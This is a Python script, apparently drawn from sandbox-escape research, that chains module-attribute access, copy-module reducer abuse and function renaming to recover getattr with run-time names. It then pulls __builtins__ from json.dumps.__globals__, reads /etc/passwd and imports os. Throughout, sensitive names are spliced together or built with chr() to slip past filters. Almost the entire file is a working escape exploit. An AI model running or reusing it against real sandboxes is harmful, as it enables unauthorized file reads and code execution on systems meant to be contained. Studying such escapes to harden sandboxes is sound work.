# source: HackTricks "Bypass Python sandboxes" (pickle/__reduce__ family; reaching a module through
#         url: https://github.com/python/cpython/issues/93889 ; https://pyvideo.org/pycon-us-2014/building-and-breaking-a-python-sandbox.html
#         another module's attributes, e.g. <mod>.copy / <mod>.os) + CPython method.__reduce__, which
#         pickles a bound method as (getattr, (self, func.__name__)); copy.copy() replays it.
# family: hidden module attribute (`ident(dataclasses).copy` -> copy module, 'copy' is exempt from the
#         module-name rule) -> copy.dispatch_table reducer -> copy._reconstruct setattr(obj, any_name, v)
#         -> rename a function's __name__ -> copy.copy(bound classmethod) = getattr(cls, "__getattribute__")
#         -> object.__getattribute__ = getattr with a run-time name on any object.
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd (any file), all names built with chr().
import argparse
import dataclasses
import json


def ident(m):
    return m


cp = ident(dataclasses).copy
u = chr(95) * 2


def put(obj, name, val):
    # setattr(obj, name, val) with a run-time name: copy._reconstruct sets the "slot state"
    def red(o):
        return (ident, (obj,), (None, {name: val}))
    cp.dispatch_table[argparse.Namespace] = red
    cp.copy(argparse.Namespace())


def k(cls):
    return None


class C:
    kk = classmethod(k)


put(k, u + "name" + u, u + "getattribute" + u)
ga = cp.copy(C().kk)          # method.__reduce__ -> getattr(C, "__getattribute__")
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
b = g[u + "buil" + "tins" + u]
fo = b["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
imp = b[u + "imp" + "ort" + u]
print(imp("o" + "s"))
